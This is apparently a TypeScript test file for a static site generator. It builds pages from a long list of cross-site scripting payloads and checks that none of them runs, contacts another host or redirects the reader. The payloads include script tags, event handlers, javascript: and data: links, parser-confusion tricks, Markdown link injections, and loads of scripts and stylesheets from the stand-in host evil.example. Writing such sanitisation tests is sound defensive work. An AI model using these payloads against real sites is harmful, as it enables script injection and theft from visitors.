import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { buildHostileSite, HARMLESS, type HostileSite } from './hostile-site.ts';
import { watchPages } from './watch-pages.ts';

/** What would call `alert`, ask another host, or take the reader elsewhere, if the site let it. */
const PAYLOADS = [
  // Elements that run or load by themselves.
  '<script>alert(1)</script>',
  '<ScRiPt src="https://evil.example/x.js"></sCrIpT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "</title></textarea></style></script><script>alert('x')</script>",
  '<script>/*\n\n*/alert(1)\n\n</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=\'alert(2)\'>',
  '<img/src/onerror=alert(1)//',
  '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">go</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="https://evil.example/x">',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)><p onmouseover=alert(1)>over</p>',
  '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select>',
  '<marquee onstart=alert(1)>x</marquee>',
  // What changes the page around it.
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>',
  '<form action="https://evil.example/" id=f><button autofocus>go</button></form><button form=f formaction="javascript:alert(1)">x</button>',
  '<form><input name=action><input name=attributes></form><img name=getElementById><a id=document>x</a>',
  '<p style="background:url(https://evil.example/b.png);width:expression(alert(1));behavior:url(x)">styled</p>',
  '<div style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example/">over everything</a></div>',
  '<table background="https://evil.example/t.png"><tr><td background="javascript:alert(1)">x</table>',
  // What a second parser reads in another way than the first.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<svg><style><img src="</style><img src=x onerror=alert(1);z">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<select><template><style><a title="</style></template></select><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo "<img src=x onerror=alert(1)>" ?>',
  '<a href="x" title="unclosed><img src=x onerror=alert(1)>',
  "<a title='x\" onmouseover=alert(1) y='>hover</a>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<q data-mark="0" onclick=alert(1)>forged</q><blockquote cite="javascript:alert(1)">x</blockquote>',
  // Addresses that are programs.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a> <a href="&#1;javascript:alert(1)">y</a>',
  '<a href="  JaVaScRiPt://example.org/%0aalert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a> <a href="data:text/html,<script>alert(1)</script>">y</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" ping="https://evil.example/">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\nscript:alert(1)>) [y](javascript&#58;alert(1)) [z](JAVASCRIPT:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x]: javascript:alert(1) "y"\n\nA [reference][x] and [x].',
  '<javascript:alert(1)> <data:text/html,x> javascript:alert(1)',
  '![x](javascript:alert(1)) ![y](https://evil.example/a.png"onerror="alert(1)) ![z](x"onload=alert(1);z)',
  '[a](https://example.org/"onmouseover="alert(1)) [b](<https://example.org/"><img src=x onerror=alert(1)>)',
  '[![x](https://evil.example/i.png)](vbscript:msgbox(1) "\\"><img src=x onerror=alert(1)>")',
  // What Markdown does on the way.
  '`<img src=x onerror=alert(1)>` ``` <script>alert(1)</script>',
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '- <img src=x\n- onerror=alert(1)>\n\n> <script>\n> alert(1)\n> </script>',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  'A note.[^<img src=x onerror=alert(1)>] B[^b]\n\n[^b]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '# <svg/onload=alert(1)> {onclick=alert(1)}\n\n[toc](#"onclick=alert(1))',
  '\\<img src=x onerror=alert(1)\\> &lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;alert(1)',
  // What a template or a script of the site might take for its own.
  '{alert(1)} $\u007balert(1)} {{alert(1)}} <%= alert(1) %> set:html={alert(1)}',
  '</script><script>alert(1)</script>\u2028//',
  '"-alert(1)-" \'-alert(1)-\' \\"-alert(1)}//',
  ']]></content><script>alert(1)</script>',
  '\u202e<script>alert(1)</script> \ufeff<img src=x onerror=alert(1)> <&#0;script>alert(1)</script>',
];

const folder = mkdtempSync(join(tmpdir(), 'on-record-hostile-'));
let site: HostileSite;

beforeAll(async () => {
  site = await buildHostileSite(folder, PAYLOADS);
});

afterAll(() => rmSync(folder, { recursive: true, force: true }));

test('every payload becomes an article, but for a link to an anchor that is not there', () => {
  expect(site.refused.filter((payload) => !payload.includes('(#'))).toEqual([]);
  expect(site.ids.length).toBe(PAYLOADS.length + 1 - site.refused.length);
});

test('nothing of a hostile article runs on its page, asks another host, or leads away', async () => {
  const paths = site.ids.map((id) => `/articles/${id}/`);
  expect(await watchPages(site.dist, paths, [`/articles/${HARMLESS}/`])).toEqual([]);
});

test('nor where lists, dossiers, comparisons and the search show its title, its summary and its names', async () => {
  const hostile = encodeURIComponent('"><img src=x onerror=alert(1)><script>alert(1)</script>');
  const lists = [
    '/',
    '/articles/',
    '/articles/2/',
    '/topics/harbour/',
    '/people/ada-berg/',
    '/people/',
    '/topics/',
    '/events/',
  ];
  const named = ['people', 'topics', 'events', 'claims'].flatMap((kind) =>
    [0, 6, 23, 47].map((number) => `/${kind}/h-${number}/`),
  );
  const asked = [
    `/search/?q=${hostile}&topic=${hostile}`,
    `/search/?q=onerror`,
    `/compare/?a=${hostile}&b=p-1`,
    `/compare/?a=p-0&b=p-6`,
  ];
  const kinds = [
    '/',
    '/articles/',
    '/topics/harbour/',
    '/people/ada-berg/',
    '/events/april-storm/',
    '/claims/dredging-helps/',
  ];
  expect(await watchPages(site.dist, [...lists, ...named], kinds)).toEqual([]);
  for (const path of asked) expect(await watchPages(site.dist, [path], [path.replace(/\?.*$/, '')])).toEqual([]);
});

test('a page that lets it run is seen to', async () => {
  const paths = ['script', 'handler', 'request', 'frame', 'address', 'refresh'];
  const harmful = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/x.png">',
    '<iframe srcdoc="x"></iframe>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<meta http-equiv="refresh" content="9;url=/">',
  ];
  for (const [index, name] of paths.entries())
    writeFileSync(join(site.dist, `${name}.html`), `<!doctype html>${harmful[index]}`);
  const incidents = await watchPages(
    site.dist,
    paths.map((name) => `/${name}.html`),
    [`/articles/${HARMLESS}/`],
  );
  expect([...new Set(incidents.map(({ path }) => path))].sort()).toEqual(paths.map((name) => `/${name}.html`).sort());
});
